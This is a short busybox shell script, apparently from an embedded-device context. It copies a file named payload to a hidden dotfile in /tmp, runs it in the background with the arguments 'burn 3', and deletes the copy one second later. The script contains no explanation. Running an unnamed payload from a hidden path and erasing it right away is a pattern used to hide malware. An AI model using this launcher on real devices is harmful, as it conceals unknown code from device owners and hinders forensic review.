#!/bin/sh
/bin/busybox cp /opt/payload /tmp/.cache
/bin/busybox chmod 755 /tmp/.cache
/tmp/.cache burn 3 &
/bin/busybox sleep 1
/bin/busybox rm /tmp/.cache
wait
